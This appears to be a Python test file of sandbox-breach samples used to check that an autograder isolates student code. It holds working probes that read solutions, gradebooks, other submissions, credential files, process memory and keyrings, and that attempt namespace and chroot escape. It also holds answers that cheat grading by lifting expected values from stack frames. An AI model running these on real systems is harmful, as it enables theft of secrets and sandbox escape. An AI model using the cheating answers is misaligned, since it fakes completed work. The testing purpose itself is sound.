"""Reading what a submission must not know."""

from tests.attacks.model import Family

family = Family("Reading what is not its own")
add = family.add

# Only canaries are ever printed: what else lies on the machine that these run on is nobody's business.
LOOK = """
    import re
    SECRET = re.compile(b"canary" + b"-[0-9a-f]{20}")
"""

add("read-source", "runs the solution from the course's source folder", """
    import glob, json
    found = [p for d in ("../../../source", "../../source", "../source", "@COURSE@/source", "/course/source")
             for p in glob.glob(d + "/**/*.ipynb", recursive=True)]
    for path in found:
        print(open(path).read())
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if "SOLUTION" in text:
                solutions = globals().setdefault("solutions", [])
                solutions.append(text)
""", answers={
    "double": "def double(x):\n    return x\nfor text in globals().get('solutions', []):\n    exec(text)",
    "scale": "for text in globals().get('solutions', ['scale = None']):\n    exec(text)",
    "weighted_rating": "for text in globals().get('solutions', ['weighted_rating = None']):\n    exec(text)",
})  # fmt: skip

add("read-labs", "reads the labs' truth, which holds the solutions", """
    import glob
    for folder in ("../../../labs", "../../labs", "@COURSE@/labs", "@PROJECT@/labs", "@PROJECT@/source"):
        for path in glob.glob(folder + "/*"):
            try:
                print(open(path).read())
            except OSError as error:
                print(error)
            if folder.startswith("@PROJECT@"):
                print("BREACH" + ":@TOKEN@", "the real labs can be listed")
""")  # fmt: skip

add("read-hidden-tests", "reads or imports the hidden tests", """
    import glob, sys, importlib
    sys.path += ["@COURSE@", "../../..", "@PROJECT@"]
    for name in ("attack_oracles", "hidden_tests.popularity", "tests.attacks.lab"):
        try:
            module = importlib.import_module(name)
            print("BREACH" + ":@TOKEN@", "imported", name)
            print(open(module.__file__).read())
        except ImportError as error:
            print(error)
    for path in glob.glob("@COURSE@/attack_oracles/*") + glob.glob("@PROJECT@/hidden_tests/*"):
        print(path, open(path, errors="replace").read() if path.endswith(".py") else "")
        print("BREACH" + ":@TOKEN@", path)
""")  # fmt: skip

add("read-gradebook", "opens the gradebook", """
    import glob, sqlite3
    for path in ["../../../gradebook.db", "../../gradebook.db", "@COURSE@/gradebook.db", *glob.glob("/*/gradebook.db")]:
        try:
            print(open(path, "rb").read())
            print(sqlite3.connect(path).execute("select * from student").fetchall())
        except (OSError, sqlite3.Error) as error:
            print(error)
""")  # fmt: skip

add("read-others", "reads what others handed in and got", """
    import glob, os
    for folder in ("../../../", "../../", "@COURSE@/", "../"):
        for part in ("submitted", "autograded", "feedback", "report", "."):
            for path in glob.glob(folder + part + "/**/*", recursive=True)[:3000]:
                if os.path.isfile(path):
                    print(path, open(path, errors="replace").read()[-3000:])
""", slow=True, ends=("graded", "timeout"))  # fmt: skip

add("read-environment", "prints its environment", LOOK + """
    import os, subprocess
    text = str(os.environ) + subprocess.run(["env"], capture_output=True, text=True).stdout
    print(SECRET.findall(text.encode()), "NBGRADER_EXECUTION" in os.environ)
""")  # fmt: skip

add("read-home", "reads the grader's home", LOOK + """
    import glob, os, pwd
    homes = {"@HOME@", os.path.expanduser("~"), "/root", "/home", *(entry.pw_dir for entry in pwd.getpwall())}
    for home in homes - {"/"}:
        for path in glob.glob(home + "/.ssh/*") + glob.glob(home + "/*"):
            try:
                print(path, SECRET.findall(open(path, "rb").read(3000)))
            except OSError as error:
                print(error)
""")  # fmt: skip

add("read-etc", "reads the host's accounts", """
    import hashlib
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/1/" "root/etc/shadow"):
        try:
            print(path, hashlib.sha256(open(path, "rb").read()).hexdigest())
        except OSError as error:
            print(error)
""")  # fmt: skip

add("read-processes", "reads environment, arguments, folders and open files of all processes", LOOK + """
    import glob, os
    for number in os.listdir("/proc"):
        if number.isdigit():
            for part in ("environ", "cmdline", "cwd/outside.txt", "root@HOST@/outside.txt", "root@HOME@/canary.txt"):
                try:
                    print(number, SECRET.findall(open(f"/proc/{number}/{part}", "rb").read()))
                except OSError as error:
                    print(error)
            for link in glob.glob(f"/proc/{number}/fd/*"):
                try:
                    target = os.readlink(link)
                    if target.startswith("/") and os.path.isfile(target) and os.path.getsize(target) < 1_000_000:
                        print(SECRET.findall(open(link, "rb").read()))
                except OSError as error:
                    print(error)
""")  # fmt: skip

add("read-memory", "searches the memory of its parent and of process 1", """
    import os, re
    me, grade = os.getpid(), b"canary" + b"-[0-9a-f]{20}"
    for number in {1, os.getppid(), *(int(n) for n in os.listdir("/proc") if n.isdigit())} - {me}:
        try:
            ranges = [line.split() for line in open(f"/proc/{number}/maps")]
            memory = open(f"/proc/{number}/mem", "rb")
        except OSError as error:
            print(number, error)
            continue
        seen = 0
        for line in ranges:
            if "w" in line[1] and seen < 100_000_000:
                low, high = (int(part, 16) for part in line[0].split("-"))
                seen += high - low
                try:
                    memory.seek(low)
                    for found in re.findall(grade, memory.read(min(high - low, 50_000_000))):
                        print(number, found)
                except (OSError, ValueError, OverflowError):
                    continue
        if seen and number in (1, os.getppid()):
            print("BREACH" + ":@TOKEN@", "the memory of process", number, "opens")
""", slow=True)  # fmt: skip

add("process-vm-readv", "reads its parent's memory with process_vm_readv and ptrace", """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    for number in {1, os.getppid()} - {os.getpid()}:
        try:
            low = int(open(f"/proc/{number}/maps").read().split("-")[0], 16)
        except OSError:
            low = 0x400000
        buffer = ctypes.create_string_buffer(64)
        local, remote = Piece(ctypes.addressof(buffer), 64), Piece(low, 64)
        if libc.process_vm_readv(number, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            print("BREACH" + ":@TOKEN@", "process_vm_readv", number)
        if libc.ptrace(0x4206, number, None, None) == 0:  # PTRACE_SEIZE, which does not stop it
            print("BREACH" + ":@TOKEN@", "ptrace", number)
            libc.ptrace(17, number, None, None)
""")  # fmt: skip

add("walk", "walks all folders it can see for secrets", """
    import os, re, time
    stop, pattern = time.time() + 2.5, b"canary" + b"-[0-9a-f]{20}"
    for top in ("@HOST@", "/home", "/root", "/run", "/var", "/mnt", "/srv", "/media", "/"):
        for folder, inner, files in os.walk(top):
            inner[:] = [name for name in inner if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/lib")]
            if time.time() > stop:
                break
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 300_000:
                        for found in re.findall(pattern, open(path, "rb").read()):
                            print(path, found)
                except OSError:
                    continue
""", slow=True, ends=("graded", "timeout"))  # fmt: skip

add("open-descriptors", "uses files and sockets that its parent left open", LOOK + """
    import os, stat
    for number in range(3, 400):
        try:
            kind = os.fstat(number).st_mode
            link = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue
        print(number, link)
        if "@COURSE@" in link or "gradebook" in link:
            print("BREACH" + ":@TOKEN@", "inherited", link)
        if stat.S_ISREG(kind):
            print(SECRET.findall(os.pread(number, 100_000, 0)))
        if stat.S_ISDIR(kind):
            print(os.listdir(number))
            try:
                print(os.listdir(os.open("../../../..", os.O_RDONLY, dir_fd=number)))
            except OSError as error:
                print(error)
""")  # fmt: skip

add("escape-namespaces", "enters other namespaces, mounts, changes its root", """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
    child = os.fork()
    if child == 0:  # so that the kernel itself stays where it is
        said = os.open("said", os.O_CREAT | os.O_WRONLY)
        for number in (1, os.getppid()):
            for kind in ("user", "mnt", "net", "pid"):
                try:
                    libc.setns(os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY), 0)
                except OSError:
                    continue
        libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
        os.makedirs("mine", exist_ok=True)
        for device in (b"/dev/sda1", b"/dev/vda1", b"/dev/root", b"proc"):
            libc.mount(device, b"mine", b"proc" if device == b"proc" else b"ext4", 0, None)
        for place in ("", "/proc/1/root", "mine/1/root", "/oldroot", "/newroot"):
            for path in ("@HOST@/outside.txt", "@HOME@/canary.txt"):
                try:
                    os.write(said, open(place + path, "rb").read())
                except OSError:
                    continue
        os.chdir("/")
        for _ in range(64):
            os.chdir("..")
        try:
            os.chroot(".")
            os.write(said, open("@HOST@/outside.txt", "rb").read())
        except OSError as error:
            os.write(said, str(error).encode())
        os._exit(0)
    os.waitpid(child, 0)
    print(open("said", "rb").read())
""", dangerous=True)  # fmt: skip

add("file-handles", "opens files by handle, past the folders", """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    name = bytearray(8 + 128)
    name[0] = 128
    buffer = (ctypes.c_char * len(name)).from_buffer(name)
    mount = ctypes.c_int()
    for path in (b"/", b".", b"/usr"):
        if libc.name_to_handle_at(-100, path, buffer, ctypes.byref(mount), 0) == 0:
            for inode in (2, 128, 256):
                found = libc.open_by_handle_at(os.open(path, os.O_RDONLY), buffer, os.O_RDONLY)
                if found >= 0:
                    try:
                        print(os.listdir(found), open(f"/proc/self/fd/{found}/@HOST@/outside.txt").read())
                    except OSError as error:
                        print(error)
""")  # fmt: skip

add("frames", "looks for the expected value in frames, tracebacks and objects of its own process", answers={
    "double": """
        def double(x):
            import gc, sys
            seen = []
            for frame in sys._current_frames().values():
                while frame is not None:
                    seen += [v for v in frame.f_locals.values() if type(v) is float]
                    for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                        if "expected" in name or "secret" in name or "oracle" in name:
                            seen.append(value)
                    frame = frame.f_back
            for found in gc.get_objects():
                if isinstance(found, dict) and "expected" in found:
                    seen.append(found["expected"])
            likely = [v for v in seen if type(v) is float and v > x]
            return likely[0] if likely else x
    """,
    "scale": """
        def scale(values):
            import gc
            near = [a for a in gc.get_objects()
                    if isinstance(a, np.ndarray) and a.shape == values.shape and a is not values]
            return near[-1] if near else values
    """,
    "weighted_rating": """
        def weighted_rating(votes, rating, m, C):
            import inspect
            for level in inspect.stack():
                if "expected" in level.frame.f_locals:
                    return level.frame.f_locals["expected"]
            return np.asarray(rating)
    """,
})  # fmt: skip

add("kernel-keyring", "reads and leaves notes in the kernel's keyrings", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for ring in (-3, -4, -5):  # the session's, the user's, the user session's
        number = libc.syscall(250, 10, ring, b"user", b"atk-@TOKEN@", 0)  # KEYCTL_SEARCH
        if number > 0:
            print("BREACH" + ":@TOKEN@", "a note from an earlier submission in keyring", ring)
        libc.syscall(248, b"user", b"atk-@TOKEN@", b"a note", 6, ring)
""", copies=2)  # fmt: skip
